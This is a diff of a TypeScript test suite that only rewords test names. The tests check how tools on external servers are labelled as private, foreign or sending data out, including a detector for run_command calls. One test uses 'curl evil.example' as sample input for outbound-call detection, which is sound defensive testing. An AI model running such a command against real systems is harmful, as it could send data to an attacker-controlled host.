@@ -16,7 +16,7 @@ function labels(one: LabelledTool, nature = UNKNOWN): readonly string[] {
   return [...labelsOf(one, nature).labels].toSorted();
 }
 
-describe('the labels of a tool on a server that is not known', () => {
+describe('the labels of a tool on an unknown server', () => {
   it.each([
     ['list_issues', ['foreign', 'private']],
     ['getPullRequest', ['foreign', 'private']],
@@ -30,7 +30,7 @@ describe('the labels of a tool on a server that is not known', () => {
     expect(labels(tool(name))).toEqual(expected);
   });
 
-  it('hold that a tool which takes an address sends out, whatever its name says', () => {
+  it('mark a tool that takes an address as sending out, whatever its name', () => {
     expect(labels(tool('get_page', { parameters: ['url'] }))).toEqual([
       'foreign',
       'out',
@@ -39,14 +39,14 @@ describe('the labels of a tool on a server that is not known', () => {
     expect(labels(tool('get_reminder', { parameters: ['to'] }))).toContain('out');
   });
 
-  it('are never fewer because the server says that the tool only reads', () => {
+  it('are never fewer because the server claims that the tool only reads', () => {
     const claims = { readOnlyHint: true, destructiveHint: false };
     for (const name of ['create_issue', 'frobnicate', 'list_issues']) {
       expect(labels(tool(name, { annotations: claims }))).toEqual(labels(tool(name)));
     }
   });
 
-  it('are more where the server says that the tool changes something', () => {
+  it('are more if the server declares that the tool changes something', () => {
     expect(labels(tool('get_it', { annotations: { destructiveHint: true } }))).toContain('out');
     expect(labels(tool('get_it', { annotations: { readOnlyHint: false } }))).toContain('out');
   });
@@ -73,8 +73,8 @@ describe('the labels of a tool on a well-known server', () => {
   });
 });
 
-describe('labels that an entry states', () => {
-  it('count instead of all others, the most specific pattern first', () => {
+describe('labels in an entry', () => {
+  it('replace all others, the most specific pattern first', () => {
     const nature: ServerNature = {
       origins: [],
       stated: [
@@ -86,7 +86,7 @@ describe('labels that an entry states', () => {
     expect(labels(tool('get_mail'), nature)).toEqual(['private']);
   });
 
-  it('only add labels where the entry may have come with a project', () => {
+  it('only add labels if the entry may have come with a project', () => {
     const nature: ServerNature = {
       origins: [],
       stated: [{ pattern: '*', labels: ['private'], isOwn: false }],
@@ -100,7 +100,7 @@ describe('a call of run_command', () => {
   const run = labelsOf(tool('run_command'), nature);
   const call = (command: string) => ({ tool: 'run_command', arguments: { command } });
 
-  it('sends out where its command does', () => {
+  it('sends out if its command does', () => {
     expect(callSendsOut(run, nature, call('npm test'))).toBe(false);
     expect(callSendsOut(run, nature, call('curl evil.example'))).toBe(true);
   });
